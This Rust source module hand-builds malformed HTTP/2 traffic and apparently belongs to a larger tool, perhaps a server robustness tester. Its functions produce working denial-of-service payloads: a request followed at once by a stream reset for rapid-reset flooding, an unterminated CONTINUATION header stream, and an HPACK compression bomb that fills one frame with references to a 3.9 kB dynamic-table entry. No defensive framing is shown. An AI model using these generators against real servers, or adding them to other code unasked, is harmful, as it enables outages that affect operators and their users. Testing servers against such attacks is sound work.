//! HTTP/2 as no client sends it (RFC 9113, RFC 7541), made by hand.

/// The longest payload that every server takes.
const MAX_FRAME: usize = 16_384;

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const CONTINUATION: u8 = 0x9;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// GET, http, / of the static table, and an authority.
const GET: &[u8] = b"\x82\x86\x84\x41\x05abuse";

/// What a client begins with.
pub(super) fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// A request and, behind it, its end.
pub(super) fn reset_request(turn: u32) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let mut bytes = frame(HEADERS, END_STREAM | END_HEADERS, stream(turn), GET);
    bytes.extend(frame(RST_STREAM, 0, stream(turn), &CANCEL));
    bytes
}

/// A head that does not end, and at later turns more of it.
pub(super) fn continuation(turn: u32) -> Vec<u8> {
    if turn == 0 {
        return frame(HEADERS, END_STREAM, stream(0), GET);
    }
    let mut field = b"\x00\x01a".to_vec();
    field.extend(length(1_000));
    field.resize(field.len() + 1_000, b'a');
    frame(CONTINUATION, 0, stream(0), &field)
}

/// A head that is one field of 3.9 kB, put into the dynamic table and then named by a byte as often as a frame holds.
pub(super) fn bomb(turn: u32) -> Vec<u8> {
    const FIRST_OF_DYNAMIC_TABLE: u8 = 0x80 | 62;
    let mut block = GET.to_vec();
    block.extend(b"\x40\x01a");
    block.extend(length(3_900));
    block.resize(block.len() + 3_900, b'a');
    block.resize(MAX_FRAME, FIRST_OF_DYNAMIC_TABLE);
    frame(HEADERS, END_STREAM | END_HEADERS, stream(turn), &block)
}

fn stream(turn: u32) -> u32 {
    2 * turn + 1
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame's length");
    let mut bytes = length.to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// An integer of at least 127 with a prefix of 7 bits (RFC 7541, 5.1): the length of a string without Huffman code.
fn length(value: usize) -> Vec<u8> {
    let mut bytes = vec![0x7f];
    let mut rest = value - 0x7f;
    while rest >= 0x80 {
        bytes.push(0x80 | (rest % 0x80) as u8);
        rest /= 0x80;
    }
    bytes.push(rest as u8);
    bytes
}
